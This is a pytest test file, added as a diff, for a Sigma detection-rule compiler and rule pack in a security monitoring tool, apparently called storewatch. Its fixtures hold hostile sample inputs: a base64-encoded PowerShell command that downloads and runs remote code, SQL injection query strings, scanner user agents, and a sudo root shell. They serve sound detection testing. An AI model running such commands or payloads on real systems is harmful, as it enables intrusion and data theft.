@@ -1,0 +1,274 @@
+"""Sigma rules: the compiler's semantics on hand-written events, the shipped pack on simulated estates,
+and user rules dropped into a folder."""
+
+from __future__ import annotations
+
+import textwrap
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+
+import duckdb
+import orjson
+import pytest
+
+from storewatch.correlate.attack import technique
+from storewatch.detect import sigma
+from storewatch.detect.detection import DetectionError
+from storewatch.detect.engine import detect
+from storewatch.detect.registry import load_user_rules
+from storewatch.evaluate import matches
+from storewatch.store import db
+from storewatch.store.schema import create_table_sql
+
+T0 = datetime(2026, 11, 16, 10, 0, tzinfo=timezone.utc)
+WEB = {"class_name": "HTTP Activity", "source_format": "nginx", "channel": "web"}
+PROC = {"class_name": "Process Activity", "activity": "process_create", "source_format": "sysmon", "channel": "endpoint"}
+
+
+def events_db(rows: list[dict]) -> duckdb.DuckDBPyConnection:
+    """An in-memory store holding only `rows` (event ids e0, e1, ... one minute apart unless given)."""
+    con = duckdb.connect()
+    con.execute("SET TimeZone = 'UTC'")
+    con.execute(create_table_sql("events"))
+    for i, row in enumerate(rows):
+        row = {"event_id": f"e{i}", "time": T0 + timedelta(minutes=i), **row}
+        cols = ", ".join(row)
+        con.execute(f"INSERT INTO events ({cols}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
+    return con
+
+
+def write_rule(folder: Path, detection: str, logsource: str = "category: webserver", extra: str = "",
+               name: str = "rule") -> Path:
+    path = folder / f"{name}.yml"
+    path.write_text(
+        "title: Test rule\nid: 5c1a2f1e-3b8a-4a51-9f53-0e0b3f2b2d11\nstatus: test\n"
+        f"logsource:\n  {logsource}\ndetection:\n{textwrap.indent(detection.strip(), '  ')}\n"
+        f"level: high\ntags: [attack.t1190]\n{extra}")
+    return path
+
+
+def matched(tmp_path: Path, rows: list[dict], detection: str, **kw: str) -> set[str]:
+    """Ids of the events a rule matches (the union of its alerts' sample ids; tables here are tiny)."""
+    table = sigma.load_rule(write_rule(tmp_path, detection, **kw)).query(events_db(rows))
+    return {eid for ids in table.column("event_ids").to_pylist() for eid in ids}
+
+
+def web(**fields) -> dict:
+    return {**WEB, "src_ip": "203.0.113.9", **fields}
+
+
+# --- compiler semantics -------------------------------------------------------------------------------
+
+def test_strings_match_case_insensitively_unless_cased(tmp_path: Path) -> None:
+    rows = [web(user_agent="sqlmap/1.7.2#stable"), web(user_agent="SQLMap/1.8"), web(user_agent="Mozilla/5.0")]
+    assert matched(tmp_path, rows, "sel:\n  c-useragent|contains: SQLMAP\ncondition: sel") == {"e0", "e1"}
+    assert matched(tmp_path, rows, "sel:\n  c-useragent|contains|cased: sqlmap\ncondition: sel") == {"e0"}
+    assert matched(tmp_path, rows, "sel:\n  c-useragent: 'mozilla/5.0'\ncondition: sel") == {"e2"}
+
+
+def test_contains_startswith_endswith_and_all(tmp_path: Path) -> None:
+    rows = [web(url_path="/admin/login"), web(url_path="/shop/admin"), web(url_path="/login/admin/x")]
+    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem|startswith: /ADMIN\ncondition: sel") == {"e0"}
+    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem|endswith: /admin\ncondition: sel") == {"e1"}
+    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem|contains: admin\ncondition: sel") == {"e0", "e1", "e2"}
+    both = "sel:\n  cs-uri-stem|contains|all: [admin, login]\ncondition: sel"
+    assert matched(tmp_path, rows, both) == {"e0", "e2"}
+
+
+def test_wildcards_and_escapes(tmp_path: Path) -> None:
+    rows = [web(url_path="/abc/x"), web(url_path="/ac"), web(url_path="/a*c"), web(url_path="/xa_bzc"),
+            web(url_path="/xaxbzc"), web(url_path="/100%")]
+    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '/a?c*'\ncondition: sel") == {"e0", "e2"}
+    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '/a\\*c'\ncondition: sel") == {"e2"}
+    # SQL LIKE's own wildcards in a value are literal characters, not wildcards.
+    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '*a_b*c'\ncondition: sel") == {"e3"}
+    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '*0%'\ncondition: sel") == {"e5"}
+
+
+def test_lists_are_or_and_selections_combine_with_and_or_not(tmp_path: Path) -> None:
+    rows = [web(http_method="GET", url_path="/a"), web(http_method="POST", url_path="/b"),
+            web(http_method="PUT", url_path="/a"), web(url_path="/a")]
+    assert matched(tmp_path, rows, "sel:\n  cs-method: [get, post]\ncondition: sel") == {"e0", "e1"}
+    assert matched(tmp_path, rows, "a:\n  cs-method: PUT\nb:\n  cs-uri-stem: /b\ncondition: a or b") == {"e1", "e2"}
+    assert matched(tmp_path, rows, "a:\n  cs-uri-stem: /a\nb:\n  cs-method: GET\ncondition: a and not b") \
+        == {"e2", "e3"}  # e3 has no method at all: `not` of a missing field matches
+    assert matched(tmp_path, rows, "s1:\n  cs-method: GET\ns2:\n  cs-method: PUT\ncondition: 1 of s*") == {"e0", "e2"}
+
+
+def test_null_numbers_and_comparisons(tmp_path: Path) -> None:
+    rows = [web(http_status=200, referrer="https://x/"), web(http_status=404), web(http_status=500, referrer="")]
+    assert matched(tmp_path, rows, "sel:\n  cs-referrer: null\ncondition: sel") == {"e1", "e2"}
+    assert matched(tmp_path, rows, "sel:\n  sc-status: 404\ncondition: sel") == {"e1"}
+    assert matched(tmp_path, rows, "sel:\n  sc-status|gte: 404\ncondition: sel") == {"e1", "e2"}
+    assert matched(tmp_path, rows, "sel:\n  cs-referrer|exists: true\ncondition: sel") == {"e0", "e2"}
+
+
+def test_regex_is_case_sensitive_unless_flagged(tmp_path: Path) -> None:
+    rows = [web(user_agent="Nikto/2.5"), web(user_agent="nikto/2.1")]
+    assert matched(tmp_path, rows, "sel:\n  c-useragent|re: '^Nikto/\\d'\ncondition: sel") == {"e0"}
+    assert matched(tmp_path, rows, "sel:\n  c-useragent|re|i: '^nikto/\\d'\ncondition: sel") == {"e0", "e1"}
+
+
+def test_cidr(tmp_path: Path) -> None:
+    rows = [web(src_ip="10.1.2.3"), web(src_ip="10.200.0.1"), web(src_ip="110.1.2.3"), web(src_ip="192.168.1.7")]
+    assert matched(tmp_path, rows, "sel:\n  c-ip|cidr: [10.0.0.0/9, 192.168.1.0/24]\ncondition: sel") == {"e0", "e3"}
+
+
+def test_windash_and_base64offset(tmp_path: Path) -> None:
+    import base64
+
+    cmd = "powershell.exe -nop -enc " + base64.b64encode(b"IEX (New-Object Net.WebClient).DownloadString('http://x')").decode()
+    rows = [{**PROC, "host": "POS-1", "command_line": cmd},
+            {**PROC, "host": "POS-2", "command_line": "powershell.exe /enc AAAA"},
+            {**PROC, "host": "POS-3", "command_line": "powershell.exe -File update.ps1"}]
+    proc = {"logsource": "category: process_creation\n  product: windows"}
+    assert matched(tmp_path, rows, "sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel", **proc) \
+        == {"e0", "e1"}
+    assert matched(tmp_path, rows, "sel:\n  CommandLine|base64offset|contains: DownloadString\ncondition: sel",
+                   **proc) == {"e0"}
+
+
+def test_keywords_search_message_url_and_command_line(tmp_path: Path) -> None:
+    rows = [web(url_path="/x", url_query="cmd=whoami"), web(url_path="/y", message="WHOAMI in body"),
+            web(url_path="/z")]
+    assert matched(tmp_path, rows, "kw:\n  - whoami\ncondition: kw") == {"e0", "e1"}
+
+
+def test_web_uri_matches_as_logged_and_url_decoded(tmp_path: Path) -> None:
+    rows = [web(url_path="/p", url_query="id=1%27%20OR%20%271%27=%271"), web(url_path="/p", url_query="id=1' or '1'='1"),
+            web(url_path="/p", url_query="id=%C3%28"), web(url_path="/p", url_query="id=42")]
+    assert matched(tmp_path, rows, "sel:\n  c-uri|contains: \"' or '1'='1\"\ncondition: sel") == {"e0", "e1"}
+
+
+def test_alerts_group_per_entity_and_day_with_min_events(tmp_path: Path) -> None:
+    rows = [web(src_ip="198.51.100.1", url_path=f"/.env{i}") for i in range(4)] + [web(src_ip="198.51.100.2", url_path="/.env")]
+    rule = write_rule(tmp_path, "sel:\n  cs-uri-stem|startswith: /.env\ncondition: sel",
+                      extra="storewatch:\n  scenario: web_attack_scan\n  min_events: 2\n")
+    det = sigma.load_rule(rule)
+    table = det.query(events_db(rows)).to_pylist()
+    assert det.scenario == "web_attack_scan" and det.attack == ("T1190",) and det.severity == "high"
+    assert len(table) == 1  # the single request from .2 is below min_events
+    alert = table[0]
+    assert alert["key"] == "ip:198.51.100.1|2026-11-16" and alert["event_count"] == 4
+    assert alert["entities"] == [{"type": "ip", "value": "198.51.100.1"}]
+    evidence = orjson.loads(alert["evidence"])
+    assert evidence["ip"] == "198.51.100.1" and evidence["distinct_urls"] == 4 and evidence["events"] == 4
+
+
+@pytest.mark.parametrize("detection, logsource, extra, feature", [
+    ("sel:\n  NoSuchField: x\ncondition: sel", "category: webserver", "", "NoSuchField"),
+    ("sel:\n  c-ip: x\ncondition: sel", "category: antivirus", "", "antivirus"),
+    ("sel:\n  c-useragent|re: '(?=x)y'\ncondition: sel", "category: webserver", "", "Regular expression"),
+    ("sel:\n  c-ip|minute: 5\ncondition: sel", "category: webserver", "", "timestamp"),
+    ("sel:\n  c-ip: x\ncondition: sel | count() > 5", "category: webserver", "", "condition"),
+    ("sel:\n  c-ip: x\ncondition: sel", "category: webserver", "storewatch: {groupby: c-ip}\n", "hints"),
+    ("sel:\n  c-ip: x\ncondition: sel", "category: webserver", "storewatch: {group_by: cs-method}\n", "group_by"),
+])
+def test_unsupported_features_fail_loudly_naming_file_and_feature(tmp_path: Path, detection, logsource, extra,
+                                                                   feature) -> None:
+    path = write_rule(tmp_path, detection, logsource=logsource, extra=extra, name="user_rule")
+    with pytest.raises(DetectionError) as err:
+        sigma.load_rule(path)
+    assert "user_rule.yml" in str(err.value) and feature in str(err.value)
+
+
+def test_correlation_rules_and_collections_are_refused(tmp_path: Path) -> None:
+    corr = tmp_path / "corr.yml"
+    corr.write_text("title: c\ncorrelation:\n  type: event_count\n  rules: [x]\n  group-by: [c-ip]\n"
+                    "  timespan: 5m\n  condition: {gte: 10}\n")
+    coll = tmp_path / "coll.yml"
+    coll.write_text(write_rule(tmp_path, "sel:\n  c-ip: x\ncondition: sel").read_text() + "---\naction: global\n")
+    for path, feature in ((corr, "correlation"), (coll, "one rule per file")):
+        with pytest.raises(DetectionError, match=feature) as err:
+            sigma.load_rule(path)
+        assert path.name in str(err.value)
+
+
+# --- the shipped pack ---------------------------------------------------------------------------------
+
+def test_shipped_rules_load_with_real_attack_ids() -> None:
+    dets = sigma.detections()
+    assert len(dets) >= 8 and all(d.kind == "sigma" for d in dets)
+    assert {"web_attack_scan"} <= {d.scenario for d in dets}
+    for det in dets:
+        assert det.attack and all(technique(t) for t in det.attack), det.id
+
+
+def test_shipped_pack_is_quiet_on_benign_look_alikes() -> None:
+    benign = [
+        web(src_ip="66.249.66.1", url_path="/products/sleeping-bag", user_agent="Mozilla/5.0 (compatible; Googlebot/2.1)"),
+        web(src_ip="66.249.66.1", url_path="/search", url_query="q=sleeping+bag"),
+        web(src_ip="66.249.66.1", url_path="/search", url_query="q=rock%20%27n%27%20roll"),
+        web(src_ip="52.1.1.1", url_path="/healthz", user_agent="UptimeRobot/2.0"),
+        web(src_ip="10.0.0.5", url_path="/admin/orders/export", url_query="sort=created_at&order=desc"),
+        web(src_ip="10.0.0.5", url_path="/.well-known/security.txt", http_status=200),
+        {**PROC, "host": "POS-1", "process_name": "C:\\Program Files\\Retail\\pos.exe", "command_line": "pos.exe"},
+        {**PROC, "host": "POS-1", "process_name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+         "command_line": "powershell.exe -NoProfile -File C:\\scripts\\rotate-logs.ps1 -Days 7"},
+        {"class_name": "Authentication", "activity": "sudo", "source_format": "linux_auth", "event_code": "sudo",
+         "user_name": "deploy", "host": "web-01", "command_line": "/usr/bin/systemctl restart nginx",
+         "attributes": '{"sudo_target_user": "root"}'},
+    ]
+    con = events_db([row for row in benign for _ in range(5)])  # enough volume to pass any min_events
+    fired = {d.id: d.query(con).num_rows for d in sigma.detections()}
+    assert not any(fired.values()), fired
+
+
+def test_shipped_pack_detects_attacks_in_sample_events() -> None:
+    rows = [web(src_ip="198.51.100.7", url_path="/search", url_query="q=%27%20UNION%20SELECT%20password%20FROM%20users--",
+                user_agent="sqlmap/1.7")] * 3 + [
+        {"class_name": "Authentication", "activity": "sudo", "source_format": "linux_auth", "event_code": "sudo",
+         "user_name": "ljackson", "host": "web-01", "command_line": "/bin/bash",
+         "attributes": '{"sudo_target_user": "root"}'},
+        {**PROC, "host": "POS-9", "process_name": "C:\\Users\\Public\\Libraries\\svc.exe", "command_line": "svc.exe"}]
+    con = events_db(rows)
+    fired = {d.id for d in sigma.detections() if d.query(con).num_rows}
+    assert {"sigma.web_sql_injection", "sigma.web_scanner_user_agent", "sigma.lnx_sudo_root_shell",
+            "sigma.win_susp_folder_execution"} <= fired
+
+
+def test_web_attack_scan_detected_in_every_estate(estate) -> None:
+    labels = estate.label("web_attack_scan")
+    assert labels, "the simulator planted no web attack scan"
+    alerts = [a for a in estate.alerts(kind="sigma") if a["scenario"] == "web_attack_scan"]
+    for label in labels:
+        assert any(matches(a, label) for a in alerts), label["description"]
+        scanner_ips = {e["value"] for e in label["entities"] if e["type"] == "ip"}
+        assert scanner_ips <= {e["value"] for a in alerts for e in a["entities"]}
+
+
+def test_sigma_alerts_only_on_labelled_attacks(estate) -> None:
+    attacks = [lb for lb in estate.labels if lb["severity"] != "benign"]
+    for alert in estate.alerts(kind="sigma"):
+        assert any(matches(alert, lb) for lb in attacks), (alert["rule_id"], alert["entities"])
+
+
+# --- user rules ---------------------------------------------------------------------------------------
+
+def test_user_sigma_rule_in_a_folder_is_loaded_and_fires(estate, tmp_path: Path) -> None:
+    folder = tmp_path / "rules"
+    folder.mkdir()
+    write_rule(folder, "sel:\n  cs-uri-stem: /healthz\ncondition: sel", name="healthz_poll",
+               extra="storewatch:\n  scenario: uptime_check\n  min_events: 10\n")
+    found, errors = load_user_rules(folder)
+    assert errors == [] and [d.id for d in found] == ["sigma.healthz_poll"]
+    with db.opened(estate.ws, read_only=True) as con:
+        table = found[0].query(con)
+    monitors = {e["value"] for lb in estate.benign if lb["scenario"] == "uptime_monitor" for e in lb["entities"]}
+    assert monitors and monitors <= {e["value"] for ents in table.column("entities").to_pylist() for e in ents}
+
+
+def test_user_sigma_rule_raises_alerts_through_detect(ws, run, tmp_path: Path) -> None:
+    log = tmp_path / "access.log"
+    log.write_text("".join(
+        f'203.0.113.5 - - [16/Nov/2026:10:{i:02d}:00 +0000] "GET /cgi-bin/luci;stok=/locale HTTP/1.1" 404 12 "-" "curl/8"\n'
+        for i in range(4)))
+    run(log)
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    write_rule(rules, "sel:\n  cs-uri-stem|contains: /cgi-bin/luci\ncondition: sel", name="luci_probe")
+    report = detect(ws, rules_dir=rules)
+    assert report.per_detection["sigma.luci_probe"] == 1 and not report.errors
+    with db.opened(ws, read_only=True) as con:
+        rows = con.execute("SELECT kind, severity, attack, summary FROM alerts WHERE rule_id = 'sigma.luci_probe'").fetchall()
+    assert rows == [("sigma", "high", ["T1190"], '4 event(s) matched "Test rule" for ip 203.0.113.5.')]
